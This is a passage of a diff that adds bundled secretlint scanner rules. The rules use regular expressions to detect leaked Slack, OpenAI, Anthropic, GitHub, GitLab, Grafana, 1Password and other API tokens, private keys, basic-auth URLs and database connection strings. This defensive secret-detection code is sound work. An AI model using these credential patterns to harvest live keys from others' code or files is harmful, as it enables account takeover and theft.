+  const SLACK_TOKEN_PATTERN = /\b(?:xoxb|xoxp|xapp|xoxa|xoxo|xoxr)-(?:\d-)?(?:[a-zA-Z0-9]{1,40}-)+[a-zA-Z0-9]{1,40}\b/g;
+  const results = source.content.matchAll(SLACK_TOKEN_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[0] || "";
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("SLACK_TOKEN", {
+        TOKEN: match
+      }),
+      range
+    });
+  }
+}
+function reportIfFoundIncomingWebhook({ source, options, context, t }) {
+  const IncomingWebhooksPattern = /https:\/\/hooks\.slack\.com\/services\/T[a-zA-Z0-9]{1,40}\/B[a-zA-Z0-9]{1,40}\/[a-zA-Z0-9]{1,40}/gi;
+  const results = source.content.matchAll(IncomingWebhooksPattern);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[0] || "";
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("IncomingWebhook", {
+        URL: match
+      }),
+      range
+    });
+  }
+}
+var creator$m = {
+  messages: messages$l,
+  meta: {
+    id: "@secretlint/secretlint-rule-slack",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-slack/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$l);
+    const normalizedOptions = {
+      allows: options.allows || []
+    };
+    return {
+      file(source) {
+        reportIfFoundRawPrivateKey$1({ source, options: normalizedOptions, context, t });
+        reportIfFoundIncomingWebhook({ source, options: normalizedOptions, context, t });
+      }
+    };
+  }
+};
+var messages$k = {
+  BasicAuth: {
+    en: (props) => `found basic auth credential: ${props.CREDENTIAL}`,
+    ja: (props) => `\u30D9\u30FC\u30B7\u30C3\u30AF\u8A8D\u8A3C\u60C5\u5831: ${props.CREDENTIAL} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+var BUILTIN_IGNORED_PATTERNS$1 = [
+  "localhost",
+  "127.0.0.1",
+  "password",
+  "mypassword",
+  "myusername",
+  "{password}",
+  "${password}",
+  "{{password}}",
+  "{username}",
+  "${username}",
+  "{{username}}",
+  "YOUR_PASSWORD",
+  "YOUR_USERNAME",
+  "REPLACE_WITH_PASSWORD",
+  "REPLACE_WITH_USERNAME"
+];
+function isVariableLikeString$1(str2) {
+  const variablePatterns = [
+    /\$\{[^}]{1,50}\}/,
+    // ${var}
+    /\{\{[^}]{1,50}\}\}/,
+    // {{var}}
+    /\{[^}]{1,50}\}/,
+    // {var}
+    /%[A-Z_]{1,30}%/,
+    // %VAR%
+    /\$[A-Z_]{1,30}/
+    // $VAR
+  ];
+  return variablePatterns.some((pattern) => pattern.test(str2));
+}
+function isLikelyRealUsername(username) {
+  if (username.length < 2)
+    return false;
+  if (isVariableLikeString$1(username))
+    return false;
+  if (BUILTIN_IGNORED_PATTERNS$1.some((pattern) => username.toLowerCase().includes(pattern.toLowerCase()))) {
+    return false;
+  }
+  return true;
+}
+function isLikelyRealPassword$1(password) {
+  if (password.length < 4)
+    return false;
+  if (isVariableLikeString$1(password))
+    return false;
+  if (BUILTIN_IGNORED_PATTERNS$1.some((pattern) => password.toLowerCase().includes(pattern.toLowerCase()))) {
+    return false;
+  }
+  if (/^(.)\1{3,}$/.test(password))
+    return false;
+  return true;
+}
+function reportIfFoundBasicAuth({ source, options, context, t }) {
+  const URL_PATTERN = /(?<protocol>(?:https?|ftp|ftps)):\/\/(?<user>[-a-zA-Z0-9_]{1,256}):(?<password>[-a-zA-Z0-9_]{1,256})@[-a-zA-Z0-9%._+~#=]{1,256}\.[a-zA-Z0-9()]{1,6}\b/g;
+  const results = source.content.matchAll(URL_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[0] || "";
+    const username = result.groups?.user;
+    const password = result.groups?.password;
+    if (!username || !password)
+      continue;
+    if (!isLikelyRealUsername(username))
+      continue;
+    if (!isLikelyRealPassword$1(password))
+      continue;
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("BasicAuth", {
+        CREDENTIAL: match
+      }),
+      range
+    });
+  }
+}
+var creator$l = {
+  messages: messages$k,
+  meta: {
+    id: "@secretlint/secretlint-rule-basicauth",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-basicauth/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$k);
+    const normalizedOptions = {
+      allows: options.allows || []
+    };
+    return {
+      file(source) {
+        reportIfFoundBasicAuth({ source, options: normalizedOptions, context, t });
+      }
+    };
+  }
+};
+var messages$j = {
+  OPENAI_TOKEN: {
+    en: (props) => `found OpenAI API token: ${props.TOKEN}`,
+    ja: (props) => `OpenAI API \u30C8\u30FC\u30AF\u30F3: ${props.TOKEN} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+var creator$k = {
+  messages: messages$j,
+  meta: {
+    id: "@secretlint/secretlint-rule-openai",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-openai/README.md"
+    }
+  },
+  create(context) {
+    const t = context.createTranslator(messages$j);
+    return {
+      file(source) {
+        const pattern = /sk-(?:proj|svcacct|admin)-(?:[A-Za-z0-9_-]{74}|[A-Za-z0-9_-]{58})T3BlbkFJ(?:[A-Za-z0-9_-]{74}|[A-Za-z0-9_-]{58})\b|sk-[a-zA-Z0-9]{20}T3BlbkFJ[a-zA-Z0-9]{20}/g;
+        const matches2 = source.content.matchAll(pattern);
+        for (const match of matches2) {
+          const index = match.index ?? 0;
+          const matchString = match[0] ?? "";
+          const range = [index, index + matchString.length];
+          context.report({
+            message: t("OPENAI_TOKEN", {
+              TOKEN: matchString
+            }),
+            range
+          });
+        }
+      }
+    };
+  }
+};
+var messages$i = {
+  ANTHROPIC_API_KEY: {
+    en: (props) => `found Anthropic Claude API key: ${props.KEY}`,
+    ja: (props) => `Anthropic Claude API \u30AD\u30FC: ${props.KEY} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+var creator$j = {
+  messages: messages$i,
+  meta: {
+    id: "@secretlint/secretlint-rule-anthropic",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-anthropic/README.md"
+    }
+  },
+  create(context) {
+    const t = context.createTranslator(messages$i);
+    return {
+      file(source) {
+        const pattern = new RegExp("(?<!\\p{L})sk-ant-api0\\d-[A-Za-z0-9_-]{90,128}AA(?![A-Za-z0-9_-])", "gu");
+        const matches2 = source.content.matchAll(pattern);
+        for (const match of matches2) {
+          const index = match.index ?? 0;
+          const matchString = match[0] ?? "";
+          const range = [index, index + matchString.length];
+          context.report({
+            message: t("ANTHROPIC_API_KEY", {
+              KEY: matchString
+            }),
+            range
+          });
+        }
+      }
+    };
+  }
+};
+var messages$h = {
+  GROQ_API_KEY: {
+    en: (props) => `found Groq API key: ${props.KEY}`,
+    ja: (props) => `Groq API \u30AD\u30FC: ${props.KEY} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+var creator$i = {
+  messages: messages$h,
+  meta: {
+    id: "@secretlint/secretlint-rule-groq",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-groq/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$h);
+    const normalizedOptions = {
+      allows: options?.allows ?? []
+    };
+    return {
+      file(source) {
+        const pattern = new RegExp("(?<!\\p{L})gsk_[a-zA-Z0-9]{52}(?![a-zA-Z0-9])", "gu");
+        const matches2 = source.content.matchAll(pattern);
+        for (const match of matches2) {
+          const index = match.index ?? 0;
+          const matchString = match[0] ?? "";
+          const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+          if (allowedResults.length > 0) {
+            continue;
+          }
+          const range = [index, index + matchString.length];
+          context.report({
+            message: t("GROQ_API_KEY", {
+              KEY: matchString
+            }),
+            range
+          });
+        }
+      }
+    };
+  }
+};
+var messages$g = {
+  HUGGINGFACE_USER_ACCESS_TOKEN: {
+    en: (props) => `found Hugging Face User Access Token: ${props.TOKEN}`,
+    ja: (props) => `Hugging Face User Access Token: ${props.TOKEN} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+var creator$h = {
+  messages: messages$g,
+  meta: {
+    id: "@secretlint/secretlint-rule-huggingface",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-huggingface/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$g);
+    const normalizedOptions = {
+      allows: options?.allows ?? []
+    };
+    return {
+      file(source) {
+        const pattern = new RegExp("(?<!\\p{L})hf_[a-zA-Z]{34}(?![a-zA-Z])", "gu");
+        const matches2 = source.content.matchAll(pattern);
+        for (const match of matches2) {
+          const index = match.index ?? 0;
+          const matchString = match[0] ?? "";
+          const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+          if (allowedResults.length > 0) {
+            continue;
+          }
+          const range = [index, index + matchString.length];
+          context.report({
+            message: t("HUGGINGFACE_USER_ACCESS_TOKEN", {
+              TOKEN: matchString
+            }),
+            range
+          });
+        }
+      }
+    };
+  }
+};
+var messages$f = {
+  LINEAR_API_TOKEN: {
+    en: (props) => `found linear api token: ${props.ID}`,
+    ja: (props) => `linear api token: ${props.ID} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+var creator$g = {
+  messages: messages$f,
+  meta: {
+    id: "@secretlint/secretlint-rule-linear",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-linear/README.md"
+    }
+  },
+  create(context) {
+    const t = context.createTranslator(messages$f);
+    return {
+      file(source) {
+        const pattern = new RegExp("(?<!\\p{L})lin_api_[a-zA-Z0-9_]{32,128}(?![a-zA-Z0-9_])", "gu");
+        const matches2 = source.content.matchAll(pattern);
+        for (const match of matches2) {
+          const index = match.index ?? 0;
+          const matchString = match[0] ?? "";
+          const range = [index, index + matchString.length];
+          context.report({
+            message: t("LINEAR_API_TOKEN", {
+              ID: matchString
+            }),
+            range
+          });
+        }
+      }
+    };
+  }
+};
+var messages$e = {
+  NOTION_INTEGRATION_TOKEN: {
+    en: (props) => `found Notion integration token: ${props.TOKEN}`,
+    ja: (props) => `Notion integration \u30C8\u30FC\u30AF\u30F3: ${props.TOKEN} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+function reportIfFoundToken({ source, options, context, t }) {
+  const NOTION_INTEGRATION_TOKEN_PATTERN = new RegExp("(?<!\\p{L})ntn_[0-9]{11}[A-Za-z0-9]{35}(?![A-Za-z0-9])", "gu");
+  const results = source.content.matchAll(NOTION_INTEGRATION_TOKEN_PATTERN);
+  for (const result of results) {
+    const index = result.index ?? 0;
+    const match = result[0] ?? "";
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("NOTION_INTEGRATION_TOKEN", {
+        TOKEN: match
+      }),
+      range
+    });
+  }
+}
+var creator$f = {
+  messages: messages$e,
+  meta: {
+    id: "@secretlint/secretlint-rule-notion",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-notion/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$e);
+    const normalizedOptions = {
+      allows: options.allows ?? []
+    };
+    return {
+      file(source) {
+        reportIfFoundToken({ source, options: normalizedOptions, context, t });
+      }
+    };
+  }
+};
+var messages$d = {
+  PrivateKey: {
+    en: (props) => `found private key: ${props.KEY}`,
+    ja: (props) => `\u79D8\u5BC6\u9375: ${props.KEY} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+var PEM_CONTENT_PATTERN = /-----BEGIN[ ]?(?:(?:RSA|DSA|EC|OPENSSH|PGP) )?PRIVATE KEY(?: BLOCK)?-----\n?([A-Za-z0-9+/=\s\\]{100,10000})\n?-----END[ ]?(?:(?:RSA|DSA|EC|OPENSSH|PGP) )?PRIVATE KEY(?: BLOCK)?-----/gm;
+function validateBase64KeyContent(base64Content) {
+  if (!/^[A-Za-z0-9+/]+=*$/.test(base64Content)) {
+    return false;
+  }
+  if (base64Content.length < 100) {
+    return false;
+  }
+  const validMagicBytes = /^(MI|b3BlbnNzaC1rZXktdjE)/;
+  if (!validMagicBytes.test(base64Content)) {
+    return false;
+  }
+  return true;
+}
+function reportIfFoundRawPrivateKey({ source, options, context, t }) {
+  const results = source.content.matchAll(PEM_CONTENT_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[0] || "";
+    const base64Raw = result[1] || "";
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    const base64Content = base64Raw.replace(/\s|\\n/g, "");
+    if (!validateBase64KeyContent(base64Content)) {
+      continue;
+    }
+    context.report({
+      message: t("PrivateKey", {
+        KEY: match
+      }),
+      range
+    });
+  }
+}
+var creator$e = {
+  messages: messages$d,
+  meta: {
+    id: "@secretlint/secretlint-rule-privatekey",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-privatekey/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$d);
+    const normalizedOptions = {
+      allows: options.allows || []
+    };
+    return {
+      file(source) {
+        reportIfFoundRawPrivateKey({ source, options: normalizedOptions, context, t });
+      }
+    };
+  }
+};
+var messages$c = {
+  SENDGRID_KEY: {
+    en: (props) => `found Sendgrid api key: ${props.KEY}`,
+    ja: (props) => `Sendgrid API\u30AD\u30FC\u304C\u898B\u3064\u304B\u308A\u307E\u3057\u305F\uFF1A ${props.KEY}`
+  }
+};
+function reportIfFoundKey$3({ source, options, context, t }) {
+  const SENDGRID_KEY_PATTERN = new RegExp("(?<!\\p{L})SG\\.\\w{1,128}\\.\\w{1,128}([-_]?)\\w{1,128}(?!\\w)", "gu");
+  const results = source.content.matchAll(SENDGRID_KEY_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[0] || "";
+    if (match.length !== 69) {
+      continue;
+    }
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("SENDGRID_KEY", {
+        KEY: match
+      }),
+      range
+    });
+  }
+}
+var creator$d = {
+  messages: messages$c,
+  meta: {
+    id: "@secretlint/secretlint-rule-sendgrid",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-sendgrid/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$c);
+    const normalizedOptions = {
+      allows: options.allows || []
+    };
+    return {
+      file(source) {
+        reportIfFoundKey$3({ source, options: normalizedOptions, context, t });
+      }
+    };
+  }
+};
+var messages$b = {
+  SHOPIFY_KEY: {
+    en: (props) => `found Shopify api key: ${props.KEY}`,
+    ja: (props) => `Shopify API\u30AD\u30FC\u304C\u898B\u3064\u304B\u308A\u307E\u3057\u305F\uFF1A ${props.KEY}`
+  }
+};
+function reportIfFoundKey$2({ source, options, context, t }) {
+  const SHOPIFY_KEY_PATTERN = new RegExp("(?<!\\p{L})(shppa|shpca|shpat|shpss)_[a-zA-Z0-9]{32,64}(?![a-zA-Z0-9])", "gu");
+  const results = source.content.matchAll(SHOPIFY_KEY_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[0] || "";
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("SHOPIFY_KEY", {
+        KEY: match
+      }),
+      range
+    });
+  }
+}
+var creator$c = {
+  messages: messages$b,
+  meta: {
+    id: "@secretlint/secretlint-rule-shopify",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-shopify/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$b);
+    const normalizedOptions = {
+      allows: options.allows || []
+    };
+    return {
+      file(source) {
+        reportIfFoundKey$2({ source, options: normalizedOptions, context, t });
+      }
+    };
+  }
+};
+var messages$a = {
+  GITHUB_TOKEN: {
+    en: (props) => `found GitHub Token(${props.typeName}): ${props.KEY}`,
+    ja: (props) => `GitHub Token(${props.typeName})\u304C\u898B\u3064\u304B\u308A\u307E\u3057\u305F\uFF1A ${props.KEY}`
+  }
+};
+var typeMap = /* @__PURE__ */ new Map([
+  ["ghp", "GitHub personal access tokens"],
+  ["gho", "OAuth access tokens"],
+  ["ghu", "GitHub user-to-server tokens"],
+  ["ghs", "GitHub server-to-server tokens"],
+  ["ghr", "refresh tokens"],
+  ["github_pat", "fine-grained personal access tokens"]
+]);
+function reportIfFoundKey$1({ pattern, source, options, context, t }) {
+  const results = source.content.matchAll(pattern);
+  for (const result of results) {
+    const index = result.index || 0;
+    const type = result.groups?.type;
+    const typeName2 = typeMap.get(type);
+    if (!typeName2) {
+      throw new Error("Unknown type:" + typeName2);
+    }
+    const match = result[0] || "";
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("GITHUB_TOKEN", {
+        KEY: match,
+        typeName: typeName2
+      }),
+      range
+    });
+  }
+}
+var creator$b = {
+  messages: messages$a,
+  meta: {
+    id: "@secretlint/secretlint-rule-github",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-github/README.md"
+    }
+  },
+  create(context, options) {
+    const CLASSIC_GITHUB_TOKEN_PATTERN = new RegExp("(?<!\\p{L})(?<type>ghp|gho|ghu|ghs|ghr)_[A-Za-z0-9_]{36}(?![A-Za-z0-9_])", "gu");
+    const FINE_GRAINED_GITHUB_TOKEN_PATTERN = new RegExp("(?<!\\p{L})(?<type>github_pat)_[A-Za-z0-9_]{82}(?![A-Za-z0-9_])", "gu");
+    const patterns = [CLASSIC_GITHUB_TOKEN_PATTERN, FINE_GRAINED_GITHUB_TOKEN_PATTERN];
+    const t = context.createTranslator(messages$a);
+    const normalizedOptions = {
+      allows: options.allows || []
+    };
+    return {
+      file(source) {
+        for (const pattern of patterns) {
+          reportIfFoundKey$1({ pattern, source, options: normalizedOptions, context, t });
+        }
+      }
+    };
+  }
+};
+var messages$9 = {
+  GITLAB_PERSONAL_ACCESS_TOKEN: {
+    en: (props) => `found GitLab Personal Access Token: ${props.KEY}`,
+    ja: (props) => `GitLab Personal Access Token\u304C\u898B\u3064\u304B\u308A\u307E\u3057\u305F: ${props.KEY}`
+  }
+};
+function reportIfFoundKey({ pattern, source, options, context, t }) {
+  const results = source.content.matchAll(pattern);
+  for (const result of results) {
+    const index = result.index ?? 0;
+    const match = result[0] ?? "";
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("GITLAB_PERSONAL_ACCESS_TOKEN", {
+        KEY: match
+      }),
+      range
+    });
+  }
+}
+var creator$a = {
+  messages: messages$9,
+  meta: {
+    id: "@secretlint/secretlint-rule-gitlab",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-gitlab/README.md"
+    }
+  },
+  create(context, options) {
+    const GITLAB_PERSONAL_ACCESS_TOKEN_PATTERN = new RegExp("(?<!\\p{L})glpat-[A-Za-z0-9_-]{20,128}(?![A-Za-z0-9_-])", "gu");
+    const patterns = [GITLAB_PERSONAL_ACCESS_TOKEN_PATTERN];
+    const t = context.createTranslator(messages$9);
+    const normalizedOptions = {
+      allows: options.allows ?? []
+    };
+    return {
+      file(source) {
+        for (const pattern of patterns) {
+          reportIfFoundKey({ pattern, source, options: normalizedOptions, context, t });
+        }
+      }
+    };
+  }
+};
+var messages$8 = {
+  GRAFANA_CLOUD_API_TOKEN: {
+    en: (props) => `found Grafana Cloud API token: ${props.TOKEN}`,
+    ja: (props) => `Grafana Cloud API \u30C8\u30FC\u30AF\u30F3: ${props.TOKEN} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  },
+  GRAFANA_SERVICE_ACCOUNT_TOKEN: {
+    en: (props) => `found Grafana Service Account token: ${props.TOKEN}`,
+    ja: (props) => `Grafana Service Account \u30C8\u30FC\u30AF\u30F3: ${props.TOKEN} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+function reportIfFound({ pattern, messageId, source, options, context, t }) {
+  const results = source.content.matchAll(pattern);
+  for (const result of results) {
+    const index = result.index ?? 0;
+    const match = result[0] ?? "";
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    const range = [index, index + match.length];
+    context.report({
+      message: t(messageId, {
+        TOKEN: match
+      }),
+      range
+    });
+  }
+}
+var creator$9 = {
+  messages: messages$8,
+  meta: {
+    id: "@secretlint/secretlint-rule-grafana",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-grafana/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$8);
+    const normalizedOptions = {
+      allows: options?.allows ?? []
+    };
+    const GRAFANA_CLOUD_API_TOKEN_PATTERN = new RegExp("(?<!\\p{L})glc_[A-Za-z0-9+/]{32,400}={0,2}(?![A-Za-z0-9+/=])", "gu");
+    const GRAFANA_SERVICE_ACCOUNT_TOKEN_PATTERN = new RegExp("(?<!\\p{L})glsa_[A-Za-z0-9]{32}_[A-Fa-f0-9]{8}(?![A-Fa-f0-9])", "gu");
+    return {
+      file(source) {
+        reportIfFound({
+          pattern: GRAFANA_CLOUD_API_TOKEN_PATTERN,
+          messageId: "GRAFANA_CLOUD_API_TOKEN",
+          source,
+          options: normalizedOptions,
+          context,
+          t
+        });
+        reportIfFound({
+          pattern: GRAFANA_SERVICE_ACCOUNT_TOKEN_PATTERN,
+          messageId: "GRAFANA_SERVICE_ACCOUNT_TOKEN",
+          source,
+          options: normalizedOptions,
+          context,
+          t
+        });
+      }
+    };
+  }
+};
+var messages$7 = {
+  OPS_TOKEN: {
+    en: (props) => `found 1Password Service Account token: ${props.TOKEN}`,
+    ja: (props) => `1Password Service Account: ${props.TOKEN} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+var is1PasswordServiceAccountToken = (base64String) => {
+  try {
+    const jsonString = atob(base64String.replace(/-/g, "+").replace(/_/g, "/"));
+    const json = JSON.parse(jsonString);
+    return typeof json === "object" && json !== null;
+  } catch (error) {
+    return false;
+  }
+};
+var creator$8 = {
+  messages: messages$7,
+  meta: {
+    id: "@secretlint/secretlint-rule-1password",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-1password/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$7);
+    const normalizedOptions = {
+      allows: options?.allows ?? []
+    };
+    return {
+      file(source) {
+        const pattern = new RegExp("(?<!\\p{L})ops_(ey[A-Za-z0-9+/=]{100,1280}fQ={0,2})(?![A-Za-z0-9+/=])", "gu");
+        const matches2 = source.content.matchAll(pattern);
+        for (const match of matches2) {
+          const index = match.index ?? 0;
+          const matchString = match[0] ?? "";
+          const base64String = match[1] ?? "";
+          if (!is1PasswordServiceAccountToken(base64String)) {
+            continue;
+          }
+          const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+          if (allowedResults.length > 0) {
+            continue;
+          }
+          const range = [index, index + matchString.length];
+          context.report({
+            message: t("OPS_TOKEN", {
+              TOKEN: matchString
+            }),
+            range
+          });
+        }
+      }
+    };
+  }
+};
+var messages$6 = {
+  MongoDBConnection: {
+    en: (props) => `found MongoDB connection string: ${props.URI}`,
+    ja: (props) => `MongoDB\u63A5\u7D9A\u6587\u5B57\u5217: ${props.URI} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  },
+  MySQLConnection: {
+    en: (props) => `found MySQL connection string: ${props.URI}`,
+    ja: (props) => `MySQL\u63A5\u7D9A\u6587\u5B57\u5217: ${props.URI} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  },
+  PostgreSQLConnection: {
+    en: (props) => `found PostgreSQL connection string: ${props.URI}`,
+    ja: (props) => `PostgreSQL\u63A5\u7D9A\u6587\u5B57\u5217: ${props.URI} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+var BUILTIN_IGNORED_PATTERNS = [
+  "localhost",
+  "127.0.0.1",
+  "example.com",
+  "example.org",
+  "test.com",
+  "password",
+  "username",
+  "secret",
+  "mypassword",
+  "myusername",
+  "root",
+  "admin",
+  "user",
+  "pass",
+  "{password}",
+  "${password}",
+  "{{password}}",
+  "{username}",
+  "${username}",
+  "{{username}}",
+  "YOUR_PASSWORD",
+  "YOUR_USERNAME",
+  "REPLACE_WITH_PASSWORD"
+];
+function isVariableLikeString(str2) {
+  const variablePatterns = [
+    /\$\{[^}]{1,50}\}/,
+    // ${var}
+    /\{\{[^}]{1,50}\}\}/,
+    // {{var}}
+    /\{[^}]{1,50}\}/,
+    // {var}
+    /%[A-Z_]{1,30}%/,
+    // %VAR%
+    /\$[A-Z_]{1,30}/,
+    // $VAR
+    /\$\([^)]{1,50}\)/
+    // $(var)
+  ];
+  return variablePatterns.some((pattern) => pattern.test(str2));
+}
+function isLikelyRealPassword(password) {
+  if (password.length < 4)
+    return false;
+  if (isVariableLikeString(password))
+    return false;
+  const passwordLower = password.toLowerCase();
+  if (BUILTIN_IGNORED_PATTERNS.some((pattern) => passwordLower === pattern.toLowerCase())) {
+    return false;
+  }
+  if (/^(.)\1{3,}$/.test(password))
+    return false;
+  return true;
+}
+function reportMongoDBConnectionString({ source, options, context, t }) {
+  const MONGODB_PATTERN = /mongodb(?:\+srv)?:\/\/(?:(?<username>[^:\/\s]{1,100}):(?<password>[^@\/\s]{1,200})@)?(?<host>[^\/\s?]{1,100})(?:\/(?<database>[^?\s]{0,100}))?(?:\?(?<options>[^\s]{0,500}))?/gi;
+  const results = source.content.matchAll(MONGODB_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[0] || "";
+    const username = result.groups?.username;
+    const password = result.groups?.password;
+    if (!username || !password)
+      continue;
+    if (!isLikelyRealPassword(password))
+      continue;
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("MongoDBConnection", {
+        URI: match
+      }),
+      range
+    });
+  }
+}
+function reportMySQLConnectionString({ source, options, context, t }) {
+  const MYSQL_URI_PATTERN = /(?:jdbc:)?mysql(?:x)?:\/\/(?:(?<username>[^:\/\s]{1,100}):(?<password>[^@\/\s]{1,200})@)?(?<host>[^\/\s?]{1,100})(?:\/(?<database>[^?\s]{0,100}))?(?:\?(?<options>[^\s]{0,500}))?/gi;
+  const results = source.content.matchAll(MYSQL_URI_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[0] || "";
+    const username = result.groups?.username;
+    const password = result.groups?.password;
+    if (!username || !password)
+      continue;
+    if (!isLikelyRealPassword(password))
+      continue;
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("MySQLConnection", {
+        URI: match
+      }),
+      range
+    });
+  }
+}
+function reportPostgreSQLConnectionString({ source, options, context, t }) {
+  const POSTGRESQL_URI_PATTERN = /postgres(?:ql)?:\/\/(?:(?<username>[^:\/\s]{1,100}):(?<password>[^@\/\s]{1,200})@)?(?<host>[^\/\s?]{1,100})(?:\/(?<database>[^?\s]{0,100}))?(?:\?(?<options>[^\s]{0,500}))?/gi;
